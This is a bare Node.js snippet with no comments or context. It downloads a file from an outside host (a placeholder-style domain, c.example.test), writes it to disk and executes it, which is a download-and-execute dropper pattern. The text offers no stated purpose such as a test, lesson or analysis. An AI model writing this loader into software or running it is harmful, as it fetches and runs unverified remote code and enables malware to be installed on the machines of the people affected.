const fs = require("fs");
const { execFile } = require("child_process");
fetch("https://c.example.test/a").then(async (reply) => {
  const file = "a";
  fs.writeFileSync(file, Buffer.from(await reply.arrayBuffer()));
  execFile(file, ["-d"]);
});
